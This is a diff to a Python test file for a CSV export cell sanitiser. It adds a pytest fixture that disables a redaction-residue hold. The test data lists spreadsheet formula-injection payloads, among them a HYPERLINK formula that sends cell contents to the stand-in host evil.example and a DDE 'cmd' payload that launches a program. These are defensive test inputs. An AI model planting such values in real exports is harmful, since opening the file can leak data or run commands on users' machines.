@@ -5,12 +5,24 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import AsyncIterator
+
+import pytest
+from harness import Platform, platform
 
 from kit.exports import csv_cell
 
 BASE = "/api/v1/publicity"
 NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3",
          "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+async def zhifa(databases, tmp_path, keys_dir) -> AsyncIterator[Platform]:
+    """Publish without the residue hold (`@SUM(…)` would be held for its '@')."""
+    overrides = {"publicity": {"hold_on_redaction_residue": False}}
+    async with platform(databases, tmp_path, keys_dir, overrides) as p:
+        yield p
 
 
 def test_csv_cell_rule() -> None:
